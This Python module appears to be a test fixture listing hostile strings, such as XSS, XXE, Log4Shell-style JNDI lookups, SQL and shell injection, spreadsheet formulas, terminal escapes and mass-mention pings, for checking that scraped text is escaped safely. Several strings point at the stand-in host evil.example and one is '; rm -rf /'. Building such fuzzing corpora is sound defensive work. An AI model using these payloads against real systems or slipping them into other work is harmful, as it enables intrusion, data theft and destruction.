"""Text that a hostile page might have where a name, a price or a sentence belongs: each one different."""

from collections.abc import Iterator
from itertools import product

EVIL = "evil.example"
URLS = (f"http://{EVIL}/a", f"https://{EVIL}/?q=1&amp;r=2", "javascript:alert(1)", "data:text/html,<b>x</b>")
WRAPPED = (
    "<a href='{}'>click</a>",
    '<img src="{}" onerror=alert(1)>',
    "<iframe src={}></iframe>",
    "[click]({})",
    "![image]({})",
    '[a](<{}> "title")',
    "[ref]: {}",
    "<{}>",
    "<{}|click>",
    "[[{}]]",
    "\x1b]8;;{}\x1b\\click\x1b]8;;\x1b\\",
)
HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg/onload=alert(1)>",
    "<b onmouseover=alert(1)>bold",
    "</td></tr></table><h1>owned</h1>",
    "\"><script>alert('x')</script>",
    "' autofocus onfocus='alert(1)",
    "<style>*{display:none}</style>",
    "<!-- comment --><b>",
    "<?xml version='1.0'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&#x3c;img src=x&#x3e;",
    "<at>U1</at>",
    "<users/all>",
    "<m:math><mi>x",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example><button>",
    "<details open ontoggle=alert(1)>",
)
XML = (
    "]]>",
    "<![CDATA[x]]>",
    '<!DOCTYPE x [<!ENTITY a "b">]>',
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
    "&xxe;",
    "<?php echo 1 ?>",
)
MARKS = ("*", "**", "***", "_", "__", "~", "~~", "`", "```", "||", "$$", "==", "^^", "::")
MARKED = ("{0}bold{0}", "a {0}b{0} c", "{0}\nline\n{0}")
MARKDOWN = (
    "# heading",
    "text\n=====",
    "text\n-----",
    "***\n",
    "> quote",
    "- [ ] task",
    "1. one\n2. two",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "    indented code",
    "\\*escaped\\*",
    "\\[x\\](http://evil.example)",
    "```python\nimport os\n```",
    "~~~\ncode\n~~~",
    "[x][1]\n\n[1]: http://evil.example",
    "[^1]\n\n[^1]: note",
    "---\ntitle: front\n---",
    ":skull: :joy:",
    "- price changed: output 1 → 0",
)
MENTIONS = (
    "@everyone",
    "@here",
    "@all",
    "@channel",
    "@room",
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<!subteam^S1|team>",
    "<!date^0^{date}|x>",
    "<@U1>",
    "<@!123456789012345678>",
    "<@&123456789012345678>",
    "<@123456789012345678>",
    "<#C1|general>",
    "<#123456789012345678>",
    "<:smile:123456789012345678>",
    "<t:0:R>",
    "</command:123>",
    "@**all**",
    "@_**King Hamlet**",
    "#**general>x**",
    "@[Name](id)",
    "~town-square",
    "#channel",
    "/poll Who?",
    "/me waves",
    "!here",
    "mailto:a@evil.example",
    "matrix:u/a:evil.example",
)
CONTROLS = (
    *(f"a{chr(code)}b" for code in (0, 1, 7, 8, 11, 12, 14, 24, 26, 27, 31, 127, 0x85, 0x90, 0x9B, 0x9C, 0x9D, 0x9F)),
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bP$q\x1b\\",
    "\x1b[?1049h",
    "\x9b31mred",
    "\x9d8;;http://evil.example\x9cx",
    "safe\rover",
    "a\x08\x08\x08b",
)
BREAKS = ("\r\n", "\n", "\r", "\u2028", "\u2029", "\x0b", "\x85", "%0d%0a")
INJECTED = (
    "Bcc: a@evil.example",
    "Subject: other",
    "\n<b>body</b>",
    "END:VCALENDAR",
    "BEGIN:VALARM",
    "X-Header: 1",
    ".",
)
FORMULAS = (
    *(f"{sign}cmd|' /C calc'!A0" for sign in "=+-@"),
    '=HYPERLINK("http://evil.example","x")',
    "=1+1",
    "\t=1+1",
    "@SUM(1,1)",
    "=IMPORTXML(CONCAT(A1),B1)",
)
RICH = (
    "[link=http://evil.example]x[/link]",
    "[bold red]owned[/]",
    "[@click=app.bell]x[/]",
)
"""Markup of the library that draws our tables."""
TEMPLATES = (
    "{{7*7}}",
    "{{app_body}}",
    "{{DATE(2026-01-01T00:00:00Z, SHORT)}}",
    "${7*7}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}",
    "%s%s%s%n",
    "%(message)s",
    "{0}",
    "{title}",
    "{0.__class__}",
    "$title",
    "`id`",
    "$(id)",
    "; rm -rf /",
    "' OR 1=1 --",
    "\\u003cscript\\u003e",
    "\\n\\r\\t",
    '{"a": 1}',
    '","kind":"other',
)
UNSEEN = (
    *(
        f"a{chr(code)}b"
        for code in (0xAD, 0x61C, 0x180E, 0x200B, 0x200E, 0x200F, 0x2061, 0x2063, 0x206A, 0xFEFF, 0xFFF9, 0x3164)
    ),
    *(f"{chr(code)}txt.exe" for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))),
    "deep\u200bseek",
    "a\U000e0041\U000e007fb",
    "\ufffe\uffff",
    "a\ud800b",
    "\udfff",
)
BARE = (f"www.{EVIL}/a", f"//{EVIL}/a", f"a@{EVIL}", f"ftp://{EVIL}/a", f"{EVIL}")
"""Addresses that some readers make links of."""
PLAIN = (
    "input_cache_hit",
    "👩\u200d💻 🏳️\u200d🌈 🇩🇪",
    "日本語の名前",
    "שלום",
    "Z̷̢a̶l̸g̵o̶",
    "deepseek-v4-pro",
    "AT&T",
    "a < b > c",
    "0.87 → 1.98 (+127.6 %)",
    "https://example.com/a_b/#c?d=1&e=2",
    "x" * 5_000,
    "word " * 2_000,
    "line\n" * 500,
    "<" * 3_000,
    "*" * 3_000,
    "&" * 2_500,
    "",
    " ",
    "\n",
    "\t",
)


def _payloads() -> Iterator[str]:
    yield from (form.format(url) for form, url in product(WRAPPED, URLS))
    yield from (form.format(mark) for form, mark in product(MARKED, MARKS))
    yield from (f"deepseek{end}{line}" for end, line in product(BREAKS, INJECTED))
    for group in (HTML, XML, MARKDOWN, MENTIONS, CONTROLS, FORMULAS, RICH, TEMPLATES, UNSEEN, BARE, PLAIN):
        yield from group


PAYLOADS = tuple(_payloads())
